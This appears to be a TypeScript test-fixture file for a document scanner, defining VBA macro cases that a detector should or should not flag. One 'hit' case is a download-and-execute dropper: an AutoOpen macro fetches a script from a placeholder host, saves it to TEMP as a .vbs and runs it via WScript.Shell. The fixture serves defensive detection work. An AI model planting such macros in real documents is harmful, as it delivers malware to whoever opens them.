// Macros of documents.
import type { FileFacts } from '../../../src/file/facts.ts'
import { readScript } from '../../../src/file/formats/script/read.ts'
import type { FactCases } from './case.ts'

const macro = (...lines: readonly string[]): Partial<FileFacts> => {
  const { facts } = readScript(lines.join('\n'), 'vba')
  const vba = {
    modules: [],
    source: '',
    script: facts,
  } as unknown as NonNullable<NonNullable<FileFacts['office']>['vba']> // only its script is read
  return { office: { vba } as unknown as NonNullable<FileFacts['office']> } // only its macros are read
}
const fetched = [
  'Set x = CreateObject("MSXML2.XMLHTTP")',
  'x.Open "GET", "https://files.example/t", False',
  'x.send',
] as const
const kept = ['Open f For Output As #1', 'Print #1, x.responseText', 'Close #1'] as const

export const DOCUMENTS: FactCases = {
  document_fetches_and_runs: {
    hits: {
      'a script that is fetched, written and run': macro(
        'Sub AutoOpen()',
        ...fetched,
        'f = Environ("TEMP") & "\\t.vbs"',
        ...kept,
        'CreateObject("WScript.Shell").Run "wscript " & f',
        'End Sub',
      ),
    },
    misses: {
      'values for a sheet': macro(
        'Sub Workbook_Open()',
        ...fetched,
        'Range("A1").Value = x.responseText',
        'Shell "explorer.exe " & ThisWorkbook.Path',
        'End Sub',
      ),
      'a copy that is kept': macro('Sub AutoOpen()', ...fetched, 'f = "C:\\data\\rates.csv"', ...kept, 'End Sub'),
    },
  },
}
